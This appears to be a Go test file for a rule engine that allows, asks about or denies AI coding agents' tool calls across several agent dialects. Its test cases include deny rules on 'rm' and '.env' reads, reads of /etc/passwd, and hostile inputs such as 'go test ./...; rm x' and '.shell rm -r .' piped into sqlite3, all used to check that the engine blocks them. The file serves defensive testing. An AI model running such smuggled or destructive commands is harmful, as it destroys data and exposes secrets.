		`{"a":"s{u,v}d"}`, `{"argv":["python3","-c","f(x)"]}`, `{"source":"f(x)"}`, `{"query":"select 1"}`, `{"command":"python3 -c x"}`} {
		call := Call{Dialect: "claude-code", Tool: "mcp__fs__copy", Input: []byte(input), Folder: shop, Root: shop}
		if _, _, whole := NamesToResolve(call, 1<<15); whole {
			t.Errorf("%s has all its names", input)
		}
	}
	call := Call{Dialect: "claude-code", Tool: "Read", Input: []byte(`{"file_path":"[s]ud"}`), Folder: shop, Root: shop}
	if names, _, whole := NamesToResolve(call, 1<<15); !whole || !slices.Contains(names, shop+"/[s]ud") {
		t.Errorf("of a file %q, whole %v", names, whole)
	}
	for _, command := range []string{"git log -L1,5:sud", "git log '-L1,5:(top)sud'", "git log '-L1,5:!sud'"} {
		if names, _, _ := NamesToResolve(Call{Command: command, Folder: shop, Root: shop}, 1<<15); !slices.Contains(names, shop+"/sud") {
			t.Errorf("%s: %q", command, names)
		}
	}
	call.Tool, call.Input = "Glob", []byte(`{"pattern":"sud/*"}`)
	if _, text, whole := NamesToResolve(call, 1<<15); !whole || !strings.Contains(text, "sud/*") {
		t.Errorf("of a pattern %q, whole %v", text, whole)
	}
	for _, input := range []string{
		`{"a":"sud"}`, `{"a":"Is it *sud*?","b":"https://a.example/?sud"}`, `{"query":"golang sud?"}`, `{"code":"sud-123"}`,
		`{"command":"cp a sud"}`, `{"args":["sud"]}`,
		`{"files":{"sud":"x"}}`, `{"dst":"@s\u0075d"}`, `{"output_path":"a,sud"}`, `{"url":"file://x/sud"}`,
	} {
		for _, tool := range []string{"mcp__fs__copy", "WebFetch"} {
			call := Call{Dialect: "claude-code", Tool: tool, Input: []byte(input), Folder: shop, Root: shop}
			if _, text, whole := NamesToResolve(call, 1<<15); !whole || !strings.Contains(text, "sud") {
				t.Errorf("%s: %q, whole %v", input, text, whole)
			}
		}
	}
}

func textInput(member, text string) []byte {
	input, _ := json.Marshal(map[string]string{member: text}) // it is text
	return input
}

// What each dialect's tools do is judged by the text, path, host or name in their input, and what is not known is asked.
func TestToolsOfEachDialect(t *testing.T) {
	s := rulesOf(t,
		Rule{Allow: []string{
			"run go test ./...", "write ./src/**", "read ./**", "fetch docs.example.org", "tool github/get_*", "tool TodoWrite",
			"tool box/*",
		}},
		Rule{Deny: []string{"run rm", "read **/.env", "tool github/delete_*", "tool shut/*", "tool box/db.drop", "tool Skill"}})
	for _, c := range []struct {
		dialect, tool, input string
		want                 Effect
	}{
		{"claude-code", "Bash", `{"command":"go test ./...","description":"Test"}`, Allow},
		{"claude-code", "Bash", `{"command":"go test ./...; rm x"}`, Deny},
		{"claude-code", "Monitor", `{"command":"go test ./...","timeout_ms":1,"persistent":true}`, Allow},
		{"claude-code", "Bash", `{"command":"go test ./...","run_in_background":true}`, ""},
		{"claude-code", "Bash", `{"command":["go","test","./..."]}`, ""}, {"claude-code", "Bash", `{"command":["rm","x"]}`, Deny},
		{"claude-code", "Read", `{"file_path":"/home/kim/shop/a"}`, Allow},
		{"claude-code", "Read", `{}`, ""}, {"claude-code", "mcp__box__exec", `{}`, ""}, {"claude-code", "mcp__shut__exec", `{}`, Deny},
		{"claude-code", "mcp__box__go", `{}`, Allow},
		{"claude-code", "Read", `{"file_path":"/home/kim/shop/.env"}`, Deny},
		{"claude-code", "Read", `{"file_path":"/etc/passwd"}`, ""},
		{"claude-code", "Edit", `{"file_path":"src/a.go","old_string":"a","new_string":"b"}`, Allow},
		{"claude-code", "Edit", `{"file_path":"a.go","old_string":"a","new_string":"b"}`, ""},
		{"claude-code", "Write", `{"file_path":"src/../a","content":"x"}`, ""},
		{"claude-code", "MultiEdit", `{"file_path":"src/a.go","edits":[]}`, Allow},
		{"claude-code", "WebFetch", `{"url":"https://docs.example.org/a","prompt":"x"}`, Allow},
		{"claude-code", "WebFetch", `{"url":"https://docs.example.org@x.example/a"}`, ""},
		{"claude-code", "mcp__github__get_issue", `{"n":1}`, Allow},
		{"claude-code", "mcp__github__delete_repo", `{}`, Deny},
		{"claude-code", "mcp__gitlab__get_issue", `{}`, ""},
		{"daycared", "box__go", `{}`, Allow}, {"daycared", "box__db_drop-d45a7b16", `{}`, Deny}, {"daycared", "box__db_ls-d45a7b16", `{}`, Allow},
		{"claude-code", "TodoWrite", `{"todos":[]}`, Allow},
		{"claude-code", "Unknown", `{}`, ""}, {"claude-code", "Skill", `{"skill":"notes"}`, Deny},
		{"claude-code", "Unknown", `{"command":"rm x"}`, Deny},
		{"claude-code", "Unknown", `{"deep":[{"file":"/x/.env"}]}`, Deny},
		{"codex", "Bash", `{"command":"go test ./..."}`, ""},
		{"codex", "shell", `{"command":["bash","-lc","go test ./..."],"workdir":"/home/kim/shop"}`, Allow},
		{"codex", "shell", `{"command":["bash","-lc","go test ./... && rm x"],"workdir":"/home/kim/shop"}`, Deny},
		{"codex", "Bash", `{"command":"rm x"}`, Deny},
		{"codex", "apply_patch", `{"command":"*** Begin Patch\n*** Update File: src/a.go\n@@\n-a\n+b\n*** End Patch"}`, Allow},
		{"codex", "apply_patch", `{"command":"*** Begin Patch\n*** Update File: src/a.go\n*** Move to: a.go\n@@\n-a\n+b\n*** End Patch"}`, ""},
		{"gemini", "run_shell_command", `{"command":"go test ./...","description":"x"}`, Allow},
		{"gemini", "run_shell_command", `{"command":"go test ./...","dir_path":"/etc"}`, ""},
		{"gemini", "write_file", `{"file_path":"src/a","content":"x"}`, Allow},
		{"gemini", "mcp_github_get_issue", `{"hook.mcp_context":{"server_name":"github","tool_name":"get_issue"}}`, Allow},
		{"cursor", "Shell", `{"command":"go test ./..."}`, ""},
		{"cursor", "Shell", `{"command":"rm x"}`, Deny},
		{"cursor", "Write", `{"file_path":"src/a","contents":"x"}`, Allow},
		{"copilot", "bash", `{"command":"go test ./..."}`, ""}, {"copilot", "create", `{"path":"src/a","file_text":"x"}`, Allow},
		{"opencode", "bash", `{"command":"go test ./...","description":"x"}`, Allow},
		{"opencode", "bash", `{"command":"go test ./...","workdir":"/etc"}`, ""},
		{"opencode", "edit", `{"filePath":"src/a","oldString":"a","newString":"b"}`, Allow},
		{"vscode", "run_in_terminal", `{"command":"go test ./...","explanation":"x"}`, ""},
		{"vscode", "create_file", `{"filePath":"src/a","content":"x"}`, Allow},
		{acts.Daycared, "run_command", `{"command":"go test ./...","timeout":60}`, Allow},
		{acts.Daycared, "run_command", `{"command":"go test ./...","cwd":"/etc"}`, ""},
		{acts.Daycared, "write_file", `{"path":"src/a","content":"x"}`, Allow},
		{acts.Daycared, "fetch_url", `{"url":"https://docs.example.org/"}`, Allow},
		{acts.Daycared, "github__get_issue", `{}`, Allow},
		{"acp", "acp_execute", `{"command":"go test ./..."}`, ""},
		{"", "run_command", `{"command":"go test ./..."}`, Allow},
		{"", "deploy", `{}`, ""},
	} {
		v := s.Judge(Call{Dialect: c.dialect, Tool: c.tool, Input: json.RawMessage(c.input), Folder: shop, Root: shop, Resolve: links(shop)})
		if v.Effect != c.want {
			t.Errorf("%s %s %s: %q, want %q: %v", c.dialect, c.tool, c.input, v.Effect, c.want, v.Reasons)
		}
	}
}

func TestConditionsOfRules(t *testing.T) {
	at := time.Date(2026, 11, 26, 12, 0, 0, 0, time.UTC)
	s := rulesOf(t, Rule{
		Allow: []string{"run git status"}, Agents: []string{"code*"}, People: []string{"fay"}, In: shop, Until: at.Add(time.Hour),
	})
	call := Call{Agent: "coder", Person: "fay", Command: "git status", Folder: shop, Root: shop, Resolve: filepath.Clean, At: at}
	for name, change := range map[string]func(*Call){
		"another agent": func(c *Call) { c.Agent = "deploy" },
		"no agent":      func(c *Call) { c.Agent = "" },
		"another owner": func(c *Call) { c.Person = "sam" },
		"no owner":      func(c *Call) { c.Person = "" }, "another folder": func(c *Call) { c.Folder, c.Root = "/srv/x", "/srv/x" },
		"a folder that is called alike": func(c *Call) { c.Folder, c.Root = shop+"x", shop+"x" },
		"later":                         func(c *Call) { c.At = at.Add(2 * time.Hour) },
		"a link to elsewhere":           func(c *Call) { c.Resolve = func(string) string { return "/srv/x" } },
	} {
		c := call
		if change(&c); s.Judge(c).Effect == Allow {
			t.Error(name)
		}
	}
	if v := s.Judge(call); v.Effect != Allow {
		t.Errorf("as it is: %v", v.Reasons)
	}
	s = rulesOf(t, Rule{Allow: []string{"run git status"}, In: "/"}, Rule{Deny: []string{"run git push"}, In: "/etc"})
	call = Call{Command: "git push", Folder: shop + "/out", Root: shop, Resolve: links(shop)}
	if v := s.Judge(call); v.Effect != Deny {
		t.Errorf("in a folder by a link: %q", v.Effect)
	}
	call.Command, call.Resolve = "git status", func(string) string { return "" }
	if v := s.Judge(call); v.Effect == Allow {
		t.Error("in a folder that nobody knows")
	}
}

// A rule for agents by a pattern holds for those that they start, too: their names have a slash.
func TestAPatternOfAgentsCoversThoseThatTheyStart(t *testing.T) {
	for _, pattern := range []string{"*", "code*"} {
		s := rulesOf(t, Rule{Deny: []string{"run git push"}, Agents: []string{pattern}})
		call := Call{Agent: "coder/helper", Command: "git push", Folder: shop, Root: shop, Resolve: filepath.Clean}
		if v := s.Judge(call); v.Effect != Deny {
			t.Errorf("%s: %q", pattern, v.Effect)
		}
	}
}

// Without the word of a hook, nobody knows where a name leads on another machine, so no rule allows what depends on it.
func TestNothingIsKnownOfAnotherMachine(t *testing.T) {
	s := rulesOf(t, Rule{Use: "builtin:read-only"}, Rule{Use: "builtin:workspace-edits"},
		Rule{Allow: []string{"run cat ...", "run go test ./...", "run git push origin *", "write ./**", "run ls"}})
	for command, want := range map[string]Effect{
		"cat a": "", "echo a > b": "", "cd src && go test ./...": "", "git push origin main": "", "ls": Allow, "go test ./...": Allow,
	} {
		if v := s.Judge(Call{Command: command, Folder: shop, Root: shop}); v.Effect != want {
			t.Errorf("%q: %q: %v", command, v.Effect, v.Reasons)
		}
	}
	s = rulesOf(t, Rule{Use: "builtin:read-only"}, Rule{Use: "builtin:workspace-edits"}, Rule{Deny: []string{"read /etc/**"}},
		Rule{Allow: []string{"run go test ./...", "run git push origin *"}})
	for _, command := range []string{
		"cat a src/b", "cd src && cat ../a", "echo a > b", "git push origin main", "git show HEAD:a", "go test ./...", "sort -k2 a",
		"mytool -fout/hosts", "mytool --file=out/hosts",
	} {
		here := Call{Command: command, Folder: shop, Root: shop, Resolve: links(shop)}
		told := map[string]string{}
		names, _, _ := NamesToResolve(here, 1<<20)
		for _, name := range names {
			told[name] = here.Resolve(name)
		}
		there := here
		there.Resolve = func(name string) string { return told[name] }
		if a, b := s.Judge(here), s.Judge(there); a.Effect != b.Effect {
			t.Errorf("%q: %q here, and %q by what a hook tells: %v", command, a.Effect, b.Effect, b.Reasons)
		}
	}
}

// TestAProgramThatRunsItsWordsHasNoWildcard: benchmarks, watchers, shells on many hosts, environments and other agents.
func TestAProgramThatRunsItsWordsHasNoWildcard(t *testing.T) {
	for _, text := range []string{
		"run hyperfine ...", "run pssh -h hosts *", "run clush *", "run concurrently ...", "run watchexec *", "run ansible all *", "run claude *",
		"run vagrant ssh ...", "run conda run *", "run perf stat ...", "run adb shell *", "run gh codespace ssh *", "run lerna exec *",
	} {
		if _, found := Compile([]Rule{{Allow: []string{text}}}); FirstError(found) == nil {
			t.Errorf("%s is taken", text)
		}
	}
	rulesOf(t, Rule{Allow: []string{"run hyperfine 'go test'", "run vagrant status *", "run adb logcat *", "run conda list *"}})
}

// A rule is exact if it needs no wildcard: only then does it allow what is high risk.
func TestExactRules(t *testing.T) {
	s := rulesOf(t, Rule{Allow: []string{"run git push --force origin fix", "run git push origin *", "run rm -r build", "write ./build"}})
	for command, want := range map[string]bool{"git push --force origin fix": true, "git push origin fix": false, "rm -r build": true} {
		if v := judged(s, command); v.Effect != Allow || v.Exact != want {
			t.Errorf("%q: %q, exact %v: %v", command, v.Effect, v.Exact, v.Reasons)
		}
	}
}

func TestRulesThatAreWrong(t *testing.T) {
	for _, c := range []struct {
		rule Rule
		want string
	}{
		{Rule{}, "write one of allow, ask, deny and use"}, {Rule{Allow: []string{"run ls"}, Deny: []string{"run rm"}}, "write one of"},
		{Rule{Use: "builtin:all"}, "no starter set"},
		{Rule{Allow: []string{"git status"}}, "no kind of act"},
		{Rule{Allow: []string{"tool Skill"}}, "does what files say"},
		{Rule{Allow: []string{"run"}}, "says nothing about what"},
		{Rule{Allow: []string{"run git 'status"}}, "not closed"},
		{Rule{Allow: []string{"run git log ... x"}}, "after ..."},
		{Rule{Deny: []string{"run rm ..."}}, "covers more words anyway"},
		{Rule{Allow: []string{"run ls [x]"}}, "no option"},
		{Rule{Allow: []string{"run ls a*b*c"}}, "more than one *"},
		{Rule{Allow: []string{"run ls a||b"}}, "empty alternative"},
		{Rule{Allow: []string{"run ls $HOME"}}, "only a shell"},
		{Rule{Allow: []string{"read ~/x"}}, "names the home"},
		{Rule{Allow: []string{"read x"}}, "in no folder"},
		{Rule{Allow: []string{"read /srv/../etc/**"}}, "not clean"},
		{Rule{Allow: []string{"read /"}}, "every file"},
		{Rule{Deny: []string{"read /srv/"}}, "not clean"},
		{Rule{Allow: []string{"fetch https://x.example/"}}, "is no host"},
		{Rule{Allow: []string{"fetch *"}}, "is no host"},
		{Rule{Allow: []string{"tool *"}}, "shells too"},
		{Rule{Allow: []string{"tool Bash"}}, "say which"},
		{Rule{Allow: []string{"tool */x"}}, "is no tool"},
		{Rule{Allow: []string{"run ls"}, In: "code"}, "absolute folder"},
		{Rule{Allow: []string{"run ls"}, Env: []string{"PATH"}}, "decide"},
		{Rule{Allow: []string{"run ls"}, Env: []string{"http_proxy"}}, "decide"},
		{Rule{Allow: []string{"run ls"}, Env: []string{"A09", "0A"}}, "\"0A\" is no name"},
		{Rule{Allow: []string{"run ls"}, Env: []string{"9A"}}, "is no name"},
		{Rule{Allow: []string{"run [-v] ls"}}, "begins with no program"},
		{Rule{Deny: []string{"run ls"}, Env: []string{"CI"}}, "leave env out"},
		{Rule{Allow: []string{"run ls"}, Fits: []string{"ls x"}}, "is not covered"},
		{Rule{Allow: []string{"run ls *"}, Not: []string{"ls x"}}, "must not be"},
		{Rule{Allow: []string{"run ls\u200b"}}, "invisible"}, {Rule{Allow: []string{"run source x"}}, "what the rest"},
	} {
		_, found := Compile([]Rule{c.rule})
		if err := FirstError(found); err == nil || !strings.HasPrefix(err.Error(), "rule 1: ") || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%+v: %v, want %q", c.rule, err, c.want)
		}
	}
	_, found := Compile([]Rule{
		{Allow: []string{"read /srv/code/a", "run git push origin main", "fetch api.example.org", "tool github/get_issue", "run ls"}},
		{Deny: []string{"read /srv/**", "run git push", "fetch *.example.org", "tool github/*"}},
	})
	for i, p := range found {
		if p.Rule != 0 || p.Item != i || !p.Warns {
			t.Errorf("rules that are denied anyway: %+v", p)
		}
	}
	if len(found) != 4 {
		t.Errorf("rules that are denied anyway: %v", found)
	}
	for _, c := range []struct {
		allow, deny Rule
		want        int
	}{
		{Rule{Allow: []string{"run ls"}, In: shop}, Rule{Deny: []string{"run ls"}, In: shop}, 1},
		{Rule{Allow: []string{"run ls"}, In: shop}, Rule{Deny: []string{"run ls"}}, 1},
		{Rule{Allow: []string{"run ls"}}, Rule{Deny: []string{"run ls"}, In: shop}, 0},
		{Rule{Allow: []string{"run ls"}}, Rule{Deny: []string{"run ls"}, Agents: []string{"a"}, People: []string{"kim"}}, 0},
		{Rule{Allow: []string{"run ls"}}, Rule{Deny: []string{"run ls"}, Agents: []string{"a"}}, 0},
		{Rule{Use: "builtin:git-local"}, Rule{Deny: []string{"run git add"}}, 0},
		{Rule{Allow: []string{"write ./src/**"}}, Rule{Deny: []string{"read ./**"}}, 1},
		{Rule{Allow: []string{"read ./src/**"}}, Rule{Deny: []string{"read ./**"}}, 1},
		{Rule{Allow: []string{"write ./src/**"}}, Rule{Deny: []string{"write ./**"}}, 1},
		{Rule{Allow: []string{"read ./src/**"}}, Rule{Deny: []string{"write ./**"}}, 0},
		{Rule{Allow: []string{"fetch a.example"}}, Rule{Deny: []string{"read ./**"}}, 0},
		{Rule{Allow: []string{"read ./src/**"}}, Rule{Deny: []string{"read ./lib/**"}}, 0},
		{Rule{Allow: []string{"write ./src/**"}}, Rule{Deny: []string{"write ./lib/**"}}, 0},
	} {
		if _, found := Compile([]Rule{c.allow, c.deny}); len(found) != c.want {
			t.Errorf("%+v, %+v: %v", c.allow, c.deny, found)
		}
	}
}

// thousand are as many rules, for as many programs, paths and hosts.
func thousand(tb testing.TB) *Set {
	var all []Rule
	for i := range 250 {
		all = append(all,
			Rule{Allow: []string{fmt.Sprintf("run program%d [-v] *", i)}},
			Rule{Allow: []string{fmt.Sprintf("write /srv/folder%d/**", i)}},
			Rule{Deny: []string{fmt.Sprintf("read **/secret%d/**", i)}},
			Rule{Allow: []string{fmt.Sprintf("fetch host%d.example.org", i)}},
		)
	}
	return rulesOf(tb, append(all, side, Rule{Allow: []string{"run git status", "run go test [-v] ./...", "write ./**"}})...)
}

func BenchmarkJudgeThousandRules(b *testing.B) {
	s := thousand(b)
	held := make([]byte, 5<<20) // as a daemon holds that has just started, so that memory is collected as often as there
	defer runtime.KeepAlive(held)
	var took []time.Duration
	commands := []string{
		"git status", "go test -v ./... 2>&1 | cat", "cat a b c > d", "ls -la; echo done; git status",
		"curl https://host9.example.org/x", "cd src && go test ./...",
	}
	for i := 0; b.Loop(); i++ {
		at := time.Now()
		judged(s, commands[i%len(commands)])
		took = append(took, time.Since(at))
	}
	slices.Sort(took)
	b.ReportMetric(float64(took[len(took)/2].Microseconds()), "p50-µs")
	b.ReportMetric(float64(took[len(took)*99/100].Microseconds()), "p99-µs")
	b.ReportMetric(float64(took[len(took)*99/100])/float64(200*time.Microsecond), "p99-of-200-µs")
}

// What a program runs that it reads from its input is not part of what a rule names.
func TestWhatAProgramIsFedIsNotAllowed(t *testing.T) {
	s := rulesOf(t, Rule{Allow: []string{"run sqlite3 shop.db", "run bc -l", "run python3 tools/gen.py", "run echo ...", "run cat ..."}})
	for command, want := range map[string]Effect{
		"sqlite3 shop.db": Allow, "bc -l && echo done": Allow, "echo x | python3 tools/gen.py": Allow, "sqlite3 shop.db | cat": Allow,
		"cat x; sqlite3 shop.db": Allow, "cat x | cat; sqlite3 shop.db": Allow, "cat < x; sqlite3 shop.db": Allow,
		"echo '.shell rm -r .' | sqlite3 shop.db": "", "cat x | cat | sqlite3 shop.db": "", "sqlite3 shop.db < x": "",
		"sqlite3 shop.db <<'E'\n.shell rm keep\nE": "", "cat x | (cat; bc -l)": "", "{ bc -l; } < x": "", "(bc -l) < x": "",
		"echo x | timeout 5 bc -l": "", "timeout 5 bc -l < x": "", "sqlite3 shop.db <<< .quit": "", "cat x | sh -c 'bc -l'": "",
		"sqlite3 shop.db 0< x": "", "sqlite3 shop.db <&3": "",
	} {
		if v := judged(s, command); v.Effect != want {
			t.Errorf("%q: %q, want %q; %v", command, v.Effect, want, v.Reasons)
		}
	}
}

// The texts and lines of rules say what they are, so that two sets can be compared.
func TestTextsOfRules(t *testing.T) {
	s := rulesOf(t, Rule{
		Allow: []string{"run ls"}, In: shop, Agents: []string{"coder*", "x"}, People: []string{"fay"}, Env: []string{"CI"},
		Until: time.Date(2027, 2, 1, 0, 0, 0, 0, time.UTC),
	}, Rule{Deny: []string{"run rm"}}, Rule{Use: "builtin:read-only"})
	terms := ", in: " + shop + ", until: 2027-01-31, agents: [coder*, x], people: [fay], env: [CI]"
	if got := s.Lines(Allow); !slices.Equal(got, []string{"run ls" + terms, "builtin:read-only"}) {
		t.Errorf("%q", got)
	}
	if got := s.Texts(); !slices.Equal(got, []string{"run ls", "run rm"}) {
		t.Errorf("%q", got)
	}
	if s = nil; s.Lines(Allow) != nil || s.Texts() != nil {
		t.Error("no rules have texts")
	}
}
